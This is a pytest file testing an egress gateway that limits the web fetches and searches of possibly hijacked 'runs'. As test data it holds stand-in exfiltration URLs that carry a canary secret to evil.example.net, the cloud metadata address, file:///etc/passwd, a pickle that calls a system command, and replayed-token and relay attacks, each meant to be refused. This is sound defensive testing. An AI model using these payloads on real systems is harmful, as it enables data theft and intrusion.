"""A run's process that was taken over, or is no run at all, speaks to the gateway's process as it likes.

Here nothing of ours stands on the other side: no `Gateway`, no `RemoteWeb`, only frames.
"""

import asyncio
import json
import os
import socket
import struct
import tempfile
from contextlib import asynccontextmanager, suppress
from pathlib import Path

import pytest

from affidavit.egress.policy import Policy
from affidavit.egress.process import frames
from affidavit.egress.process.client import gateway_status, open_session
from affidavit.egress.process.frames import HEAD, MAGIC, Pipe
from affidavit.egress.process.line import Line
from affidavit.egress.process.messages import PROTOCOL, Fetch, Open, Search, read_fetch, read_search
from affidavit.egress.process.place import Place
from affidavit.egress.process.server import ServerLimits
from affidavit.errors import FailureKind, GatewayError, PageFailure, SearchFailure

from ..hostile_server import redirect, reply
from .conftest import SITE, running

START = f"{SITE}/start"
SECRET = "CANARY-91be-4d20"
WORDS = b"The mill was built in 1871 and stands by the river. " * 8
PAGE = reply(b"<title>Mill</title><p>" + WORDS + b"<a href='/next?step=1'>The next page</a></p>")


def play(town, act, pages=None, **more):
    async def scene():
        async with town({"/start": PAGE, **(pages or {})}, **more) as place:
            return place, await asyncio.wait_for(act(place), 30)

    return asyncio.run(scene())


async def fetched(session, url):
    return read_fetch(await session.ask(lambda n: Fetch(n=n, url=url)))


# ------------------------------------------------------------------------------------------ what it asks for

UNSEEN = {
    "a made-up path": f"https://evil.example.net/collect/{SECRET}",
    "a made-up query": f"https://evil.example.net/?d={SECRET}",
    "another query on a seen page": f"{START}?d={SECRET}",
    "a query that was altered": f"{SITE}/next?step=2",
    "a query with more": f"{SITE}/next?step=1&d={SECRET}",
    "a tracking parameter": f"{SITE}/next?step=1&utm_source={SECRET}",
    "a subdomain": f"https://{SECRET.lower()}.example.net/",
    "a robots.txt": f"https://{SECRET.lower()}.example.net/robots.txt",
    "what only a search query named": "https://evil.example.net/from-the-query",
    "the metadata service": "http://169.254.169.254/latest/meta-data/",
    "this machine": "http://127.0.0.1/",
    "a file": "file:///etc/passwd",
}


@pytest.mark.parametrize("case", UNSEEN)
def test_an_address_that_the_gateway_has_not_seen_itself_is_not_asked_for(town, case):
    async def act(place):
        async with place.session(given=[START], search=["listed"]) as one:
            await one.ask(lambda n: Search(n=n, query="https://evil.example.net/from-the-query"))
            assert not isinstance((await fetched(one, START)).result, PageFailure)
            reply = await fetched(one, UNSEEN[case])
            return reply, await fetched(one, f"{SITE}/next?step=1")

    place, (refused, allowed) = play(town, act, {"/next?step=1": reply(b"more")}, found=(f"{SITE}/found",))
    assert isinstance(refused.result, PageFailure)
    assert [one.allowed for one in refused.decisions] == [False]
    assert allowed.result.body == b"more"
    hosts = {asked.host for asked in place.web.asked} | set(place.answers.asked)
    assert hosts == {"www.example.com"}
    assert [one["allowed"] for one in place.events("decision") if one["purpose"] == "page"] == [True, False, True]


def test_a_query_with_a_key_of_the_gateway_or_a_mark_of_the_run_is_not_sent(town):
    key = "BSA0123456789abcdefghij"

    async def act(place):
        async with place.session(search=["listed"], canaries=[SECRET]) as one:
            queries = (f"is {key} right", f"is {key[::-1]} right", f"# {SECRET}", "is it right")
            return [
                read_search(await one.ask(lambda n, query=query: Search(n=n, query=query))).result for query in queries
            ]

    _, (*refused, hits) = play(town, act, found=(START,), keys={"BRAVE_API_KEY": key})
    assert [isinstance(one, SearchFailure) and one.kind.value for one in refused] == ["bad_request"] * 3
    assert [hit.url for hit in hits] == [START]


def test_there_is_no_message_that_says_an_address_was_seen(town):
    async def act(place):
        async with place.session(given=[START]) as one:
            await one._pipe.send({"do": "saw", "n": 1, "url": "https://evil.example.net/", "how": "search result"})
            with pytest.raises(GatewayError, match="ended the run"):
                await fetched(one, START)

    play(town, act)


def test_a_text_that_no_reader_sees_gives_no_links(town):
    hidden = reply(PAGE.partition(b"\r\n\r\n")[2].replace(b"<a href", b"<a hidden href"))

    async def act(place):
        async with place.session(given=[START]) as one:
            assert not isinstance((await fetched(one, START)).result, PageFailure)
            return (await fetched(one, f"{SITE}/next?step=1")).result

    _, failure = play(town, act, {"/start": hidden})
    assert "not_seen" in failure.detail


def test_a_redirect_is_judged_by_the_gateway_though_the_run_says_nothing(town):
    async def act(place):
        async with place.session(given=[START]) as one:
            return await fetched(one, START)

    _, answer = play(
        town, act, {"/start": redirect("https://denied.example.net/")}, own=Policy(deny=("*.example.net",))
    )
    assert "host_denied" in answer.result.detail
    assert [one.reason for one in answer.decisions] == ["fetched", "redirected", "host_denied"]


# ------------------------------------------------------------------------------------------ what it wants to be allowed

WIDER = {
    "every host": (Policy(), f"{SITE}/start", "host_not_allowed"),
    "a port": (Policy(ports=(8443,)), "https://a.example.org:8443/", "port"),
    "no denials": (Policy(allow=("denied.example.org",)), "https://denied.example.org/", "host_denied"),
    "a private host": (Policy(allow_private=("inner.example.org",)), "https://inner.example.org/", "address"),
}


@pytest.mark.parametrize("case", WIDER)
def test_a_run_cannot_widen_the_gateways_policy(town, case):
    wanted, url, reason = WIDER[case]

    async def act(place):
        place.answers.by_name["inner.example.org"] = ["10.0.0.7"]
        async with place.session(policy=wanted, given=[url]) as one:
            return one.policy, await fetched(one, url)

    own = Policy(allow=("*.example.org",), deny=("denied.example.org",))
    place, (policy, answer) = play(town, act, own=own)
    assert reason in answer.result.detail
    assert place.web.asked == []
    assert policy.ports == policy.allow_private == ()


def test_a_run_cannot_have_more_time_or_bytes_than_the_gateway_gives(town):
    async def act(place):
        place.backend._settings = place.backend._settings.model_copy(
            update={"fetch_megabytes": 1, "fetch_seconds": 1.0}
        )
        async with place.session(given=[START, f"{SITE}/slow"], megabytes=10**6, seconds=1e9) as one:
            return [(await fetched(one, url)).result.kind.value for url in (START, f"{SITE}/slow")]

    async def slow(asked, writer):
        await asyncio.sleep(20)

    _, kinds = play(town, act, {"/start": reply(b"x" * 2**21), "/slow": slow})
    assert kinds == ["too_large", "timeout"]


def test_a_gateway_may_take_no_addresses_from_runs(town):
    async def act(place):
        with pytest.raises(GatewayError, match="takes no addresses from runs"):
            async with place.session(given=[START]):
                pass
        async with place.session(search=["listed"]) as one:
            await one.ask(lambda n: Search(n=n, query="mill"))
            return await fetched(one, START)

    _, answer = play(town, act, given_allowed=False, found=(START,))
    assert not isinstance(answer.result, PageFailure)


def test_the_id_of_another_run_gives_nothing(town):
    async def act(place):
        async with place.session("run_1", given=[START]) as one:
            assert not isinstance((await fetched(one, START)).result, PageFailure)
            with pytest.raises(GatewayError, match="run run_1 is open already"):
                async with place.session("run_1"):
                    pass
        while place.events("close") == []:
            await asyncio.sleep(0.01)
        async with place.session("run_1") as again:
            return await fetched(again, START)

    _, answer = play(town, act)
    assert "not_seen" in answer.result.detail


# ------------------------------------------------------------------------------------------ what it sends

_HELLO = {"do": "hello", "protocol": PROTOCOL, "nonce": "0" * 32, "proof": None}


def framed(said, blob=b""):
    text = said if isinstance(said, bytes) else json.dumps(said).encode()
    return HEAD.pack(MAGIC, len(text), len(blob)) + text + blob


GARBAGE = {
    "nothing of ours": b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x00",
    "zeros": bytes(4096),
    "a head of four gigabytes": HEAD.pack(MAGIC, 2**32 - 1, 2**32 - 1),
    "a frame over what a stranger may send": HEAD.pack(MAGIC, 5000, 0),
    "bytes after the JSON": framed(_HELLO, b"x"),
    "no JSON": framed(b"\xff\xfe{}"),
    "a list": framed(b"[]"),
    "JSON without an end": framed(b"[" * 4000),
    "no hello": framed({"do": "open", "run_id": "x"}),
    "a field more": framed(_HELLO | {"admin": True}),
    "another type": framed(_HELLO | {"protocol": str(PROTOCOL)}),
    "another protocol": framed(_HELLO | {"protocol": PROTOCOL + 1}),
    "a pickle": framed(b"\x80\x04\x95cposix\nsystem\n."),
    "half a head": MAGIC + b"\0\0",
    "nothing at all": b"",
}


@pytest.mark.parametrize("case", GARBAGE)
def test_garbage_ends_the_connection_that_sent_it_and_no_other(town, case):
    async def act(place):
        async with place.session(given=[START]) as honest:
            reader, writer = await asyncio.open_unix_connection(place.place.path)
            writer.write(GARBAGE[case])
            writer.write_eof()
            heard = await asyncio.wait_for(reader.read(), 5)
            writer.close()
            return heard, await fetched(honest, START)

    place, (heard, answer) = play(town, act)
    assert not isinstance(answer.result, PageFailure)
    assert len(heard) < 1000
    if case != "nothing at all":
        assert b"refused" in heard
        assert place.events("refused")


LATER = {
    "no message": {"do": "fetch"},
    "a number below zero": {"do": "fetch", "n": -1, "url": START},
    "a number that is none": {"do": "fetch", "n": True, "url": START},
    "a method": {"do": "fetch", "n": 1, "url": START, "method": "POST"},
    "a header": {"do": "fetch", "n": 1, "url": START, "headers": {"Cookie": "a"}},
    "open again": {"do": "open", "run_id": "other"},
    "an endpoint": {"do": "search", "n": 1, "query": "a", "endpoint": "https://evil.example.net/"},
    "a limit without end": {"do": "search", "n": 1, "query": "a", "limit": 10**9},
    "too much": {"do": "fetch", "n": 1, "url": "x" * 2**20},
}


@pytest.mark.parametrize("case", LATER)
def test_a_run_that_sends_what_is_no_request_loses_its_connection(town, case):
    async def act(place):
        async with place.session(given=[START]) as one:
            with suppress(ConnectionError):
                await one._pipe.send(LATER[case])
            with pytest.raises(GatewayError, match=r"ended the (run|connection)|takes nothing"):
                await fetched(one, START)

    place, _ = play(town, act)
    assert place.web.asked == []


def test_more_requests_at_once_than_were_offered_wait_for_the_others(town):
    async def act(place):
        async with place.session(given=[f"{SITE}/{n}" for n in range(20)]) as one:
            for n in range(20):
                await one._pipe.send({"do": "fetch", "n": 1000 + n, "url": f"{SITE}/{n}"})
            while len(place.web.urls) < 20:
                await asyncio.sleep(0.01)

    async def slow(asked, writer):
        await asyncio.sleep(0.02)
        writer.write(reply())

    place, _ = play(town, act, {f"/{n}": slow for n in range(20)}, limits=ServerLimits(at_once=4))
    assert place.web.most_at_once == 4


def test_a_number_that_is_in_use_ends_the_run(town):
    async def act(place):
        async with place.session(given=[START]) as one:
            for _ in range(2):
                await one._pipe.send({"do": "fetch", "n": 7, "url": START})
            with pytest.raises(GatewayError, match="request 7 is not answered yet"):
                await fetched(one, START)

    async def slow(asked, writer):
        await asyncio.sleep(20)

    play(town, act, {"/start": slow})


def test_peers_that_say_nothing_are_sent_away_and_keep_nobody_out(town):
    async def act(place):
        quiet = [await asyncio.open_connection(place.place.host, place.place.port) for _ in range(9)]
        async with place.session("a"):
            status = await gateway_status(place.place, token=place.token)
        heard = [await asyncio.wait_for(reader.read(), 5) for reader, _ in quiet]
        for _, writer in quiet:
            writer.close()
        return heard, status

    _, (heard, status) = play(town, act, tcp=True, limits=ServerLimits(strangers=3, hello_seconds=0.5))
    assert sum(b"did not say within 0.5 s" in one for one in heard) in (1, 2)  # the others made room
    assert status["runs"] == 1


def test_a_byte_now_and_then_buys_a_stranger_no_time(town):
    async def act(place):
        reader, writer = await asyncio.open_unix_connection(place.place.path)
        for byte in framed(_HELLO)[:3]:
            writer.write(bytes([byte]))
            await asyncio.sleep(0.1)
        heard = await asyncio.wait_for(reader.read(), 5)
        writer.close()
        return heard

    place, heard = play(town, act, limits=ServerLimits(hello_seconds=0.4))
    assert b"did not say within 0.4 s" in heard
    assert [one["why"] for one in place.events("refused")]


def test_a_hello_and_then_silence_is_silence(town):
    async def act(place):
        reader, writer = await asyncio.open_unix_connection(place.place.path)
        writer.write(framed(_HELLO))
        heard = await asyncio.wait_for(reader.read(), 5)
        writer.close()
        return heard

    _, heard = play(town, act, limits=ServerLimits(hello_seconds=0.3))
    assert b"did not say within 0.3 s" in heard


def test_a_frame_that_drips_in_is_not_waited_for(town, monkeypatch):
    monkeypatch.setattr(frames, "FRAME_SECONDS", 0.3)

    async def act(place):
        reader, writer = await asyncio.open_unix_connection(place.place.path)
        for byte in framed(_HELLO)[:3]:
            writer.write(bytes([byte]))
            await asyncio.sleep(0.05)
        heard = await asyncio.wait_for(reader.read(), 5)
        writer.close()
        return heard

    _, heard = play(town, act)
    assert b"did not come whole within 0.3 s" in heard


def test_a_run_that_does_not_take_its_pages_loses_its_connection_and_holds_up_nobody(town, monkeypatch):
    monkeypatch.setattr(frames, "SEND_SECONDS", 0.5)

    async def act(place):
        async with place.session("slow", given=[START]) as one:
            await one._pipe.send({"do": "fetch", "n": 1000, "url": START})
            one._pipe._line.transport.pause_reading()
            async with place.session("other", given=[f"{SITE}/small"]) as other:
                assert (await fetched(other, f"{SITE}/small")).result.body == b"small"
            while not any(one["run"] == "slow" for one in place.events("close")):
                await asyncio.sleep(0.05)

    play(town, act, {"/start": reply(bytes(20_000_000)), "/small": reply(b"small")})


def test_a_run_that_reads_nothing_has_so_many_bytes_waiting_and_the_rest_refused(town):
    pages = {f"/{n}": reply(bytes(1_000_000)) for n in range(6)}

    async def act(place):
        async with place.session("deaf", given=[f"{SITE}{path}" for path in pages]) as one:
            one._pipe._line.transport.pause_reading()
            asking = [asyncio.create_task(fetched(one, f"{SITE}{path}")) for path in pages]
            while len(place.events("fault")) < 4:
                await asyncio.sleep(0.01)
            one._pipe._line.transport.resume_reading()
            answers = await asyncio.gather(*asking, return_exceptions=True)
            return answers, await fetched(one, f"{SITE}/0")

    _, (answers, after) = play(town, act, pages, limits=ServerLimits(unread_bytes=2_500_000))
    refused = [str(one) for one in answers if isinstance(one, GatewayError)]
    assert len(refused) == 4
    assert all("would have more than the 2,500,000" in one for one in refused)
    assert [len(one.result.body) for one in answers if not isinstance(one, Exception)] == [1_000_000] * 2
    assert len(after.result.body) == 1_000_000  # once it reads, it is answered


def test_only_so_many_runs_are_open(town):
    async def act(place):
        async with place.session("a"), place.session("b"):
            with pytest.raises(GatewayError, match="2 runs open, as many as it takes"):
                async with place.session("c"):
                    pass

    play(town, act, limits=ServerLimits(runs=2))


# ------------------------------------------------------------------------------------------ who it is


def test_a_wrong_token_and_none_are_refused(town):
    async def act(place):
        for token, said in (("0" * 64, "token is wrong"), (None, "wants a token")):
            with pytest.raises(GatewayError, match=said):
                async with open_session(place.place, Open(run_id="run_1"), token=token):
                    pass
        return await gateway_status(place.place, token=place.token)

    place, status = play(town, act, tcp=True)
    assert status["runs"] == 0
    assert all(place.token not in json.dumps(event) for event in place.log)


def test_a_proof_that_was_overheard_is_worth_nothing(town):
    async def act(place):
        heard = []
        send = Pipe.send

        async def listen(pipe, said, blobs=()):
            heard.append(dict(said))
            await send(pipe, said, blobs)

        Pipe.send = listen
        try:
            await gateway_status(place.place, token=place.token)
        finally:
            Pipe.send = send
        (hello,) = [said for said in heard if said.get("do") == "hello"]
        assert all(place.token not in json.dumps(said) for said in heard)
        reader, writer = await asyncio.open_connection(place.place.host, place.place.port)
        writer.write(framed(hello))
        answer = await asyncio.wait_for(reader.read(), 5)
        writer.close()
        return answer

    _, answer = play(town, act, tcp=True)
    assert b"the token is wrong" in answer


async def posing(impostor):
    """A server on a port of its own that does `impostor` with each connection."""
    tasks = []

    def accept(line):
        tasks.append(asyncio.create_task(impostor(Pipe(line, frames.FROM_RUN))))

    return await asyncio.get_running_loop().create_server(lambda: Line(accept), "127.0.0.1", 0)


def test_what_sits_on_the_port_and_does_not_know_the_token_is_no_gateway():
    async def impostor(pipe):
        async with pipe:
            await pipe.send({"gateway": 1, "version": "1", "nonce": "0" * 32, "token": True})
            await pipe.receive()
            await pipe.send({"welcome": 1, "proof": "0" * 64, "at_once": 1})
            await pipe.receive()

    async def scene():
        server = await posing(impostor)
        place = Place(host="127.0.0.1", port=server.sockets[0].getsockname()[1])
        with pytest.raises(GatewayError, match="does not know the token"):
            await gateway_status(place, token="1" * 64)
        server.close()

    asyncio.run(scene())


def test_a_port_is_not_asked_without_a_token_whatever_it_says_of_itself():
    called = []

    async def impostor(pipe):
        called.append(1)
        async with pipe:
            await pipe.send({"gateway": PROTOCOL, "version": "1", "nonce": "0" * 32, "token": False})
            await pipe.receive()
            await pipe.send({"welcome": PROTOCOL, "proof": None, "at_once": 1})

    async def scene():
        server = await posing(impostor)
        place = Place(host="127.0.0.1", port=server.sockets[0].getsockname()[1])
        with pytest.raises(GatewayError, match="set gateway_token"):
            await gateway_status(place)
        with pytest.raises(GatewayError, match="does not know the token"):
            await gateway_status(place, token="1" * 64)
        server.close()

    asyncio.run(scene())
    assert called == [1]


def test_who_carries_proofs_between_a_run_and_the_gateway_from_another_port_is_found_out(town):
    async def act(place):
        async def pump(reader, writer):
            while data := await reader.read(65536):
                writer.write(data)
            writer.close()

        async def relay(reader, writer):
            onward = await asyncio.open_connection(place.place.host, place.place.port)
            await asyncio.gather(pump(reader, onward[1]), pump(onward[0], writer))

        between = await asyncio.start_server(relay, "127.0.0.1", 0)
        there = Place(host="127.0.0.1", port=between.sockets[0].getsockname()[1])
        with pytest.raises(GatewayError, match="meant for a gateway at another place"):
            await gateway_status(there, token=place.token)
        between.close()
        return await gateway_status(place.place, token=place.token)

    _, status = play(town, act, tcp=True)
    assert status["runs"] == 0


@pytest.mark.skipif(os.name != "posix" or os.geteuid() != 0, reason="needs to be root, to be somebody else")
def test_another_user_is_known_by_the_kernels_word(town):
    async def act(place):
        place.place.path.parent.chmod(0o755)
        place.place.path.chmod(0o666)
        code = (
            "import os, socket, sys; os.setuid(65534); s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]);"
            "print(s.recv(4096))"
        )
        process = await asyncio.create_subprocess_exec(
            "python3", "-c", code, str(place.place.path), stdout=asyncio.subprocess.PIPE
        )
        out, _ = await process.communicate()
        return out

    with tempfile.TemporaryDirectory() as folder:  # where others may look, too
        place, out = play(town, act, uids=frozenset({0}), folder=Path(folder))
    assert b"user 65534 may not use this gateway" in out
    assert place.events("refused")[0]["peer"]["uid"] == 65534


# ------------------------------------------------------------------------------------------ what it hears


def test_a_fault_of_the_gateway_is_told_without_what_it_was_about(town):
    async def act(place):
        async with place.session(given=[START], search=["listed"]) as one:
            with pytest.raises(GatewayError, match=r"failed at it \(RuntimeError\)") as caught:
                read_search(await one.ask(lambda n: Search(n=n, query="break")))
            return str(caught.value), await fetched(one, START)

    _, (said, answer) = play(town, act)
    assert "key-123456" not in said
    assert not isinstance(answer.result, PageFailure)


def test_a_page_that_the_gateway_fails_at_costs_that_page_and_no_more(town):
    class Fragile:
        def __init__(self, web):
            self._web = web

        async def fetch(self, url, watch):
            if url.endswith("/fragile"):
                raise ValueError("a header that nobody foresaw")
            return await self._web.fetch(url, watch)

    async def act(place):
        web = place.backend.web

        @asynccontextmanager
        async def fragile(policy, asked, keep):
            async with web(policy, asked, keep) as one:
                yield Fragile(one)

        place.backend.web = fragile
        urls = [f"{SITE}/fragile", START]
        async with running("unix", place, given=urls) as run:
            return await run.gateway.fetch_many(urls), [one.reason for one in run.decisions]

    place, ((failed, page), reasons) = play(town, act)
    assert failed.kind is FailureKind.CRASHED
    assert "ValueError" in failed.detail
    assert page.status == 200
    assert reasons.count("failed") == 1
    assert ["ValueError" in one["error"] for one in place.events("fault")] == [True]


def test_what_a_gateway_says_is_broken_costs_one_page_and_one_search(town, caplog):
    async def act(place):
        async with running("unix", place, given=[START]) as run:
            with pytest.raises(SearchFailure, match="RuntimeError"):
                await run.search.search("break")
            place.server._turns, turns = None, place.server._turns
            (failed,) = await run.gateway.fetch_many([START])
            place.server._turns = turns
            return failed, await run.gateway.fetch(START), [one.reason for one in run.decisions]

    _, (failed, page, reasons) = play(town, act)
    assert failed.kind is FailureKind.CRASHED
    assert page.status == 200
    assert "crashed" in reasons
    assert [one.levelname for one in caplog.records] == ["WARNING"]


def test_a_policy_or_an_address_that_is_none_is_refused_by_name(town):
    async def act(place):
        for policy, said in (({"alow": ["a"]}, "alow"), ({"allow": ["http://a/"]}, "is no host")):
            with pytest.raises(GatewayError, match=said):
                async with open_session(place.place, Open(run_id="run_1", policy=policy)):
                    pass
        async with open_session(place.place, Open(run_id="run_1", given=["javascript:alert(1)"])) as one:
            return await fetched(one, "javascript:alert(1)")

    _, answer = play(town, act)
    assert "scheme" in answer.result.detail


def test_peer_credentials_are_read_as_the_kernel_lays_them_out():
    ours, theirs = socket.socketpair(socket.AF_UNIX)
    with ours, theirs:
        pid, uid, _ = struct.unpack("3i", ours.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
    assert (pid, uid) == (os.getpid(), os.geteuid())


# ------------------------------------------------------------------------------------------ honest, and in a hurry


def test_a_run_that_gives_up_all_it_asked_and_asks_again_keeps_its_connection(town):
    async def slow(asked, writer):
        await asyncio.sleep(20)

    async def act(place):
        async with place.session(given=[START, f"{SITE}/slow"]) as one:
            for _ in range(10):
                asking = [asyncio.create_task(fetched(one, f"{SITE}/slow")) for _ in range(8)]
                before = len(place.web.urls)
                while len(place.web.urls) < before + 4:
                    await asyncio.sleep(0.01)
                for task in asking:
                    task.cancel()
                await asyncio.gather(*asking, return_exceptions=True)
            answers = await asyncio.gather(*(fetched(one, START) for _ in range(40)))
            return [answer.result.status for answer in answers]

    _, statuses = play(town, act, {"/slow": slow}, limits=ServerLimits(at_once=4))
    assert statuses == [200] * 40


def test_links_that_nobody_waited_for_are_looked_for_again(town):
    async def act(place):
        async with place.session(given=[START]) as one:
            await fetched(one, START)
            links, gate = place.backend.links, asyncio.Event()

            async def late(page):
                await gate.wait()
                return await links(page)

            place.backend.links = late
            first = asyncio.create_task(fetched(one, f"{SITE}/next?step=1"))
            await asyncio.sleep(0.05)
            first.cancel()
            await asyncio.gather(first, return_exceptions=True)
            gate.set()
            return (await fetched(one, f"{SITE}/next?step=1")).result.status

    _, status = play(town, act, {"/next?step=1": reply(b"more")})
    assert status == 200
